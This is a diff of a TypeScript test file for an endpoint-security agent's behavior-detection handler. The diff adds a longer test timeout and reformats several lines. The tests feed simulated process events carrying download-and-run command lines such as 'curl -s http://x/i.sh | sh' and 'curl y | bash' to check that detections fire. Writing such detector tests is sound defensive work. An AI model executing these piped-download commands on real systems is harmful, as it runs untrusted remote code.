@@ -1,4 +1,4 @@
-import { afterEach, beforeEach, describe, expect, test } from "bun:test";
+import { afterEach, beforeEach, describe, expect, setDefaultTimeout, test } from "bun:test";
 import { rmSync } from "node:fs";
 import type { AgentEvent } from "../../core/agent/events.ts";
 import type { ContentHandler } from "../../core/handler/contract.ts";
@@ -6,6 +6,9 @@ import { makeVendor, type Vendor } from "../../test/fixtures/vendor.ts";
 import { type LuaTestAgent, rulesPayload, startLuaAgent, type TestKey, testKey } from "../_lua/testkit.ts";
 import { productRulesFeedHandler } from "../ProductRulesFeed/index.ts";
 import { behaviorHandler } from "./index.ts";
+
+// Each test starts an agent with real host processes; a loaded CI machine needs more than 5 s.
+setDefaultTimeout(30_000);
 
 const handlers = [behaviorHandler, productRulesFeedHandler] as ContentHandler[];
 const QUIET = { sensor: { processes: false, connections: false } };
@@ -78,7 +81,12 @@ describe("Behavior handler in an agent", () => {
     expect(report.installed.map((i) => i.type).sort()).toEqual(["Behavior", "ProductRulesFeed"]);
 
     const r = await inject([
-      { type: "process.start", pid: 4242, exe: "/usr/bin/bash", cmdline: "bash -c curl -s http://x/i.sh | sh" },
+      {
+        type: "process.start",
+        pid: 4242,
+        exe: "/usr/bin/bash",
+        cmdline: "bash -c curl -s http://x/i.sh | sh",
+      },
       { type: "process.start", pid: 4243, exe: "/usr/bin/python3", cmdline: "python3 curl | x" },
       { type: "file.write", path: "/etc/hosts", exe: "/usr/bin/vi", time: 1000 },
       { type: "file.write", path: "/etc/hosts", exe: "/usr/bin/vi", time: 2000 },
@@ -166,10 +174,19 @@ describe("Behavior handler in an agent", () => {
       rules: { name: string; calls: number; faults: number; disabled: boolean; lastError: string | null }[];
     };
     const spin = stats.rules.find((s) => s.name === "spin")!;
-    expect(spin).toMatchObject({ calls: 3, faults: 3, disabled: true, lastError: "instruction budget exceeded" });
-    expect(stats.rules.find((s) => s.name === "nil-index")?.lastError).toContain("attempt to index a nil value");
+    expect(spin).toMatchObject({
+      calls: 3,
+      faults: 3,
+      disabled: true,
+      lastError: "instruction budget exceeded",
+    });
+    expect(stats.rules.find((s) => s.name === "nil-index")?.lastError).toContain(
+      "attempt to index a nil value",
+    );
     // The agent is still healthy and still detects.
-    const again = await inject([{ type: "process.start", pid: 9, exe: "/bin/bash", cmdline: "curl y | bash" }]);
+    const again = await inject([
+      { type: "process.start", pid: 9, exe: "/bin/bash", cmdline: "curl y | bash" },
+    ]);
     expect(again.detections).toHaveLength(1);
     expect(t.agent.status().health).toBe("green");
   });
@@ -181,7 +198,10 @@ describe("Behavior handler in an agent", () => {
     await vendor.release(
       "Behavior",
       2,
-      rulesPayload("Behavior", RULES, key, { settings: { requiresProduct: true, ...QUIET }, tamper: "hosts-write" }),
+      rulesPayload("Behavior", RULES, key, {
+        settings: { requiresProduct: true, ...QUIET },
+        tamper: "hosts-write",
+      }),
     );
     const report = await t.agent.update();
     expect(report.rejected).toHaveLength(1);
